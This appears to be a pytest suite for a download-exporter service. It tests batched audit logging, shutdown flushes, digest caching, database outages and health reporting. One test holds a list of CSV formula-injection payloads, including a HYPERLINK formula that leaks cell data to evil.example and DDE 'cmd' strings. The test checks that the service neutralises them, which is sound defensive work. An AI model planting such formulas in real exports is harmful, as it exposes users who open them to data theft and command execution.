"""What each download costs the database: audit rows written in batches (every download
still gets its closed row, and a clean shutdown writes what is queued), and file digests
known in memory."""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import logging
import os
import re
import subprocess
import time
import uuid
from pathlib import Path

import httpx
import pytest

from exporter.embedded import EmbeddedPostgres
from exporter.files.demo import LARGE_NAME
from tests.support import ROOT, Server, fetch, forked, rows_of, run_sql, wait_until

RANGE = 64 * 1024


def _max_id(database_url: str) -> int:
    return int(fetch(database_url, "SELECT coalesce(max(id), 0) AS n FROM exporter.downloads")
               [0]["n"])


async def _burst(url: str, files: int, exports: int) -> list[httpx.Response]:
    limits = httpx.Limits(max_connections=files + exports)
    async with httpx.AsyncClient(base_url=url, timeout=60, limits=limits) as client:
        ranges = [client.get(f"/files/{LARGE_NAME}",
                             headers={"Range": f"bytes={i * RANGE}-{(i + 1) * RANGE - 1}"})
                  for i in range(files)]
        dumps = [client.get(f"/datasets/orders.csv?limit={i + 1}") for i in range(exports)]
        return list(await asyncio.gather(*ranges, *dumps))


def test_burst_of_200_downloads_leaves_200_closed_rows_written_in_batches(
    make_server: type[Server], database_url: str
) -> None:
    # 200 requests at once share 30 pool connections for their slots: under a loaded
    # suite a wait can pass the default 5 s and be a (correct) 503; this test is about
    # the audit rows, so the wait may be long.
    s = make_server({"EXPORTER_MAX_DOWNLOADS_PER_PRINCIPAL": "300",
                     "EXPORTER_AUDIT_FLUSH_INTERVAL": "0.2",
                     "EXPORTER_POOL_TIMEOUT": "60"}).start()
    before = _max_id(database_url)
    answers = asyncio.run(_burst(s.url, 190, 10))
    assert [r.status_code for r in answers] == [206] * 190 + [200] * 10
    assert all(len(r.content) == RANGE for r in answers[:190])

    def closed() -> list[dict[str, object]]:
        # This server's rows: an earlier test's server may still write its last batch.
        rows = fetch(database_url, "SELECT *, xmin::text AS tx FROM exporter.downloads"
                     " WHERE id > $1 AND status <> 'running' AND instance LIKE $2",
                     before, rows_of(s))
        return [dict(r) for r in rows]

    assert wait_until(lambda: len(closed()) == 200, 15)
    rows = closed()
    assert {r["status"] for r in rows} == {"complete"}
    files = [r for r in rows if r["kind"] == "file"]
    exports = [r for r in rows if r["kind"] == "export"]
    assert len(files) == 190 and len(exports) == 10
    assert {r["bytes"] for r in files} == {RANGE}
    assert {r["http_status"] for r in files} == {206}
    assert sorted(r["range"] for r in files) == sorted(
        f"bytes={i * RANGE}-{(i + 1) * RANGE - 1}" for i in range(190))
    assert sorted(r["rows"] for r in exports) == list(range(1, 11))
    assert all(r["started_at"] <= r["ended_at"] for r in rows)
    # One transaction per download start and one per end before batching: 200 distinct
    # writers of the final row versions. Batched every 0.2 s, a burst takes a few.
    assert len({r["tx"] for r in rows}) <= 50, len({r["tx"] for r in rows})
    assert "audit rows" not in s.log()


def test_clean_shutdown_writes_the_queued_audit_rows(
    make_server: type[Server], database_url: str
) -> None:
    # A flush interval far longer than the test: only the shutdown's flush writes them.
    s = make_server({"EXPORTER_AUDIT_FLUSH_INTERVAL": "60"}).start()
    # The mark once no other server's batch is on its way (at most two a second each):
    # rows of earlier tests' servers came after it.
    seen = [_max_id(database_url), time.monotonic()]

    def quiet() -> bool:
        now = _max_id(database_url)
        if now != seen[0]:
            seen[:] = [now, time.monotonic()]
        return time.monotonic() - seen[1] > 1.5

    assert wait_until(quiet, 30, interval=0.25)
    before = seen[0]
    for i in range(5):
        r = httpx.get(s.url + f"/files/{LARGE_NAME}", headers={"Range": f"bytes={i}-{i + 9}"})
        assert r.status_code == 206 and len(r.content) == 10
        assert httpx.get(s.url + "/datasets/orders.csv?limit=2").status_code == 200
    # Queued, not written yet (before batching each was written before its answer).
    assert _max_id(database_url) == before
    s.stop()  # SIGTERM, as a service manager or `docker stop` sends it
    rows = fetch(database_url, "SELECT * FROM exporter.downloads WHERE id > $1"
                 " AND instance LIKE $2 ORDER BY id", before, rows_of(s))
    assert len(rows) == 10
    assert {r["status"] for r in rows} == {"complete"}
    assert [r["kind"] for r in rows] == ["file", "export"] * 5
    assert [r["bytes"] for r in rows if r["kind"] == "file"] == [10] * 5
    assert [r["rows"] for r in rows if r["kind"] == "export"] == [2] * 5
    assert "lost" not in s.log()


def test_a_known_digest_is_served_from_memory_and_never_for_a_changed_file(
    make_server: type[Server], database_url: str, tmp_path: Path
) -> None:
    name = f"digest-{uuid.uuid4().hex[:8]}.bin"
    body = os.urandom(300_000)
    (tmp_path / name).write_bytes(body)
    s = make_server({"EXPORTER_FILES_ROOT": str(tmp_path)}).start()
    expected = "sha-256=:" + base64.b64encode(hashlib.sha256(body).digest()).decode() + ":"
    assert httpx.get(f"{s.url}/files/{name}").content == body  # hashed on the way
    assert wait_until(lambda: httpx.get(f"{s.url}/files/{name}").headers.get("repr-digest")
                      == expected, 5)
    # The process knows the digest of this very file (size, mtime, inode): no query.
    run_sql(database_url, f"DELETE FROM exporter.file_digests WHERE path = '{name}'")
    r = httpx.get(f"{s.url}/files/{name}")
    assert r.content == body and r.headers.get("repr-digest") == expected
    # Changed in place (same inode, new size and mtime): never the old digest.
    with (tmp_path / name).open("ab") as f:
        f.write(b"more")
    r = httpx.get(f"{s.url}/files/{name}", headers={"Range": "bytes=0-9"})
    assert r.status_code == 206 and "repr-digest" not in r.headers


def test_audit_rows_of_an_outage_are_written_when_the_database_is_back(
    make_server: type[Server], tmp_path: Path
) -> None:
    root = tmp_path / "files"
    root.mkdir()
    (root / "a.txt").write_bytes(b"hello\n")
    pg = EmbeddedPostgres(tmp_path / "pg")
    url = pg.start()
    try:
        # Rows wait 3 s in memory: long enough to stop the database under one of them.
        with make_server({"EXPORTER_FILES_ROOT": str(root),
                          "EXPORTER_AUDIT_FLUSH_INTERVAL": "3"}, url=url) as s:
            assert httpx.get(s.url + "/files/a.txt").content == b"hello\n"
            rows = "SELECT status, bytes FROM exporter.downloads ORDER BY id"
            assert wait_until(lambda: len(fetch(url, rows)) == 1, 10)
            # Served while the database is up (a download takes its slot there); its row
            # waits in memory for the next write, which the outage makes fail.
            assert httpx.get(s.url + "/files/a.txt", timeout=30).content == b"hello\n"
            pg.stop()
            # A download the process can admit from memory (its slot still held, and its
            # lease renewed within half its length) is served and its row queued; one that
            # needs the database (a slot to take) is refused, never left uncounted.
            served = 0

            def refused() -> bool:
                nonlocal served
                r = httpx.get(s.url + "/files/a.txt", timeout=30)
                served += r.status_code == 200
                return r.status_code == 503 and r.json()["error"]["message"].startswith(
                    "the database is unavailable")

            assert wait_until(refused, 20, interval=0.2)
            assert pg.start() == url
            assert wait_until(lambda: len(fetch(url, rows)) == 2 + served, 15, interval=0.2)
            assert [tuple(r) for r in fetch(url, rows)] == [("complete", 6)] * (2 + served)
            assert wait_until(
                lambda: httpx.get(s.url + "/files/a.txt", timeout=30).status_code == 200, 10)
    finally:
        pg.stop()


# (A header's value cannot start with a tab or CR: HTTP strips the whitespace around it.)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_the_audit_trail_as_csv_runs_no_formula(
    make_server: type[Server], database_url: str, tmp_path: Path
) -> None:
    """What clients send reaches the audit trail (a Range header, a proxy's
    X-Forwarded-For); /downloads.csv writes a cell that a spreadsheet would run after a
    quote (OWASP), the audit row keeps the parsed range, not the header's text, and the
    datasets' own exports keep COPY's bytes."""
    s = make_server({"EXPORTER_FORWARDED_ALLOW_IPS": "127.0.0.1",
                     "EXPORTER_AUDIT_FLUSH_INTERVAL": "0.2"}).start()
    admin = subprocess.run(
        [*forked("exporter.cli"), "token", "create", "--name",
         f"formula-{uuid.uuid4().hex[:6]}", "--scope", "admin"],
        cwd=ROOT, env={**os.environ, "EXPORTER_DATABASE_URL": database_url},
        capture_output=True, text=True, check=True, timeout=60).stdout.strip()
    before = _max_id(database_url)
    marker = uuid.uuid4().hex
    for formula in FORMULAS:
        r = httpx.get(f"{s.url}/files/README.txt?m={marker}",
                      headers={"Range": formula, "X-Forwarded-For": formula})
        assert r.status_code == 200
    r = httpx.get(f"{s.url}/files/README.txt", headers={"Range": "bytes=0-3, -2"})
    assert r.status_code == 206
    assert wait_until(lambda: len(fetch(
        database_url, "SELECT id FROM exporter.downloads WHERE id > $1 AND kind = 'file'"
        " AND status <> 'running'", before)) >= len(FORMULAS) + 1, 20)
    rows = fetch(database_url, "SELECT range, client FROM exporter.downloads WHERE id > $1"
                 " AND kind = 'file' ORDER BY id", before)
    assert [r["range"] for r in rows] == [None] * len(FORMULAS) + ["bytes=0-3,-2"]
    auth = {"Authorization": f"Bearer {admin}"}
    got = httpx.get(f"{s.url}/downloads.csv?id=gt.{before}&kind=eq.file&order=id", headers=auth)
    assert got.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(got.text, newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    clients = [row[0] for row in csv.reader(io.StringIO(httpx.get(
        f"{s.url}/downloads.csv?id=gt.{before}&kind=eq.file&order=id&select=client",
        headers=auth).text, newline=""))][1:]
    # (uvicorn keeps the last of X-Forwarded-For's comma-separated addresses: the first
    # formula arrives cut.)
    assert clients[1:len(FORMULAS)] == ["'" + f for f in FORMULAS[1:]]
    # The same rows as JSON are the values themselves; a dataset's CSV is COPY's bytes.
    listed = httpx.get(f"{s.url}/downloads?id=gt.{before}&kind=eq.file&order=id",
                       headers=auth).json()
    assert [r["client"] for r in listed][1:len(FORMULAS)] == FORMULAS[1:]
def test_a_refused_audit_row_is_an_error_healthz_shows(
    make_server: type[Server], database_url: str, tmp_path: Path
) -> None:
    """The database refusing a row (here a CHECK added for one file name, as 0001's refused
    every stored file's row) drops it: logged at ERROR, counted, /healthz degraded."""
    name = f"refused-{uuid.uuid4().hex[:8]}.txt"
    (tmp_path / name).write_bytes(b"unaudited\n")
    (tmp_path / "fine.txt").write_bytes(b"audited\n")
    s = make_server({"EXPORTER_FILES_ROOT": str(tmp_path)}).start()
    health = httpx.get(s.url + "/healthz").json()
    assert health["status"] == "ok" and health["audit"] == {"pending": 0, "refused": 0}
    run_sql(database_url, "ALTER TABLE exporter.downloads ADD CONSTRAINT test_refused"
            f" CHECK (target <> '{name}') NOT VALID")
    try:
        assert httpx.get(f"{s.url}/files/{name}").content == b"unaudited\n"
        # A look that gets another answer (seen twice in full runs: a body without
        # "audit") is one more try, not the end; what is asserted is the same.
        assert wait_until(lambda: httpx.get(s.url + "/healthz").json()
                          .get("audit", {}).get("refused") == 1, 15)
    finally:
        run_sql(database_url, "ALTER TABLE exporter.downloads DROP CONSTRAINT test_refused")
    r = httpx.get(s.url + "/healthz")
    assert r.status_code == 200 and r.json()["status"] == "degraded"
    assert "refused 1 audit rows" in r.json()["error"]
    assert "test_refused" in r.json()["audit"]["last_refused_error"]
    assert not fetch(database_url, "SELECT 1 FROM exporter.downloads WHERE target = $1", name)
    log = s.log_path.read_text()
    assert re.search(r" ERROR .*audit row refused by the database, dropped", log)
    # The other downloads are still written.
    assert httpx.get(f"{s.url}/files/fine.txt").content == b"audited\n"
    assert wait_until(lambda: fetch(database_url, "SELECT 1 FROM exporter.downloads"
                                    " WHERE target = 'fine.txt' AND status = 'complete'"), 15)


def test_a_download_ended_before_its_row_is_written_is_logged_without_an_id(
        caplog: pytest.LogCaptureFixture) -> None:
    from exporter.audit import Download, log_finished

    caplog.set_level(logging.INFO, logger="exporter.audit")
    log_finished(Download("file", "README.txt", None), "proxied", 200)
    log_finished(Download("export", "orders", None, id=7, principal="demo"), "complete", 200)
    assert [r.getMessage().split(",")[0] for r in caplog.records] == [
        "download proxied: anonymous file README.txt",
        "download 7 complete: demo export orders"]


def test_the_flusher_writes_every_column_of_the_table_with_its_type() -> None:
    """A batch is written as one array per column: those columns and their types are the
    table's (a column added to tables.py and not to audit.py would be left to its default,
    and a type that differs would fail the cast of every batch)."""
    from sqlalchemy.dialects import postgresql

    from exporter import audit
    from exporter.tables import downloads

    short = {"TIMESTAMP WITH TIME ZONE": "timestamptz"}
    table = {}
    for column in downloads.c:
        spelled = column.type.compile(dialect=postgresql.dialect())
        table[column.name] = short.get(spelled, spelled.lower())
    del table["instance"]  # the server's default: the connection's instance
    assert dict(audit._STARTS) == table
    assert set(audit._ENDS) <= set(audit._STARTS) and audit._ENDS[0] == ("id", "bigint")
